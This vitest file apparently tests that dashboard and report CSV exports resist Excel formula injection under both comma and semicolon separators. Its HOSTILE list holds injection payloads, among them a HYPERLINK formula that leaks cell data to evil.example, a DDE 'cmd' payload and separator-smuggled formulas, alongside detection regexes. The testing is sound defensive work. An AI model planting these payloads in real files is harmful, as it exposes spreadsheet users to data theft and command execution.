// CSV files must be safe in Excel whichever separator the locale uses: "," (en) or ";" (NL, DE,
// IT, LT). The files both writers produce (dashboard exports and published reports) are parsed
// here as Excel does, once with each separator, and no cell may start a formula; hidden characters
// must not reach the cells either.
import { describe, expect, it } from "vitest";
import { csvLine as dashboardLine } from "~/server/dashboard/csv";
import { csvFile } from "~/server/reports/csv";

/** Excel-like parsing of one file: a field starting with a quote runs to the closing quote ("" is a
 *  quote), anything after it up to the separator is appended as it is; CR LF ends a row. */
function parseCsv(text: string, sep: "," | ";"): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = text.startsWith("\uFEFF") ? 1 : 0;
  let cell = "";
  let atStart = true;
  while (i < text.length) {
    const c = text[i]!;
    if (atStart && c === '"') {
      i++;
      for (;;) {
        if (i >= text.length) break;
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
      atStart = false;
      continue;
    }
    if (c === sep) {
      row.push(cell);
      cell = "";
      atStart = true;
      i++;
      continue;
    }
    if (c === "\r" || c === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      atStart = true;
      i += c === "\r" && text[i + 1] === "\n" ? 2 : 1;
      continue;
    }
    cell += c;
    atStart = false;
    i++;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const HOSTILE = [
  'x;=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "a,=1+1",
  "=cmd|' /C calc'!A0",
  "+41 22",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  "\n=1",
  '"=1"',
  'x;"=1',
  'x,"=1',
  "x; =1",
  "x;;@y",
  'x";=1',
  "ws-01\u202Egpj.exe",
  "ws\u200B-01",
  "ws-01\u0000\u0007",
  "tag\u{E0041}\u{E0042}",
  "Ministère de l'Intérieur; Brussels",
];
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
const INVISIBLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]|\udb40[\udc00-\udc7f]/;

function dangerous(rows: string[][]): string[] {
  const bad: string[] = [];
  for (const row of rows) {
    for (const cell of row) {
      if (NUMBER.test(cell)) continue;
      if (FORMULA.test(cell) || FORMULA.test(cell.trimStart())) bad.push(`formula cell ${JSON.stringify(cell)}`);
      if (INVISIBLE.test(cell)) bad.push(`hidden characters in ${JSON.stringify(cell)}`);
    }
  }
  return bad;
}

describe("CSV in both separator conventions", () => {
  const dashboard = HOSTILE.map((h, i) => dashboardLine([h, i, -i, `${h} again`, h])).join("");
  const report = csvFile(
    ["a", "b", "c"],
    HOSTILE.map((h, i) => [h, -i, `tail ${h}`]),
    "Muster report 1 | fingerprint f",
  );

  for (const [name, text] of [
    ["dashboard export", dashboard],
    ["published report", report],
  ] as const) {
    it(`${name}: no cell starts a formula when split on ","`, () => {
      expect(dangerous(parseCsv(text, ","))).toEqual([]);
    });
    it(`${name}: no cell starts a formula when split on ";"`, () => {
      expect(dangerous(parseCsv(text, ";"))).toEqual([]);
    });
  }

  it("keeps the content readable: comma files read back to the cleaned values, one row per line", () => {
    const rows = parseCsv(dashboard, ",");
    expect(rows).toHaveLength(HOSTILE.length);
    expect(rows[0]![0]).toBe(`x;'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
    expect(rows[15]![0]).toBe("ws-01\uFFFDgpj.exe");
    expect(rows[16]![0]).toBe("ws\uFFFD-01");
    expect(rows[19]![0]).toBe("Ministère de l'Intérieur; Brussels");
    expect(rows[3]!.slice(1, 3)).toEqual(["3", "-3"]); // numbers stay numbers
  });
});
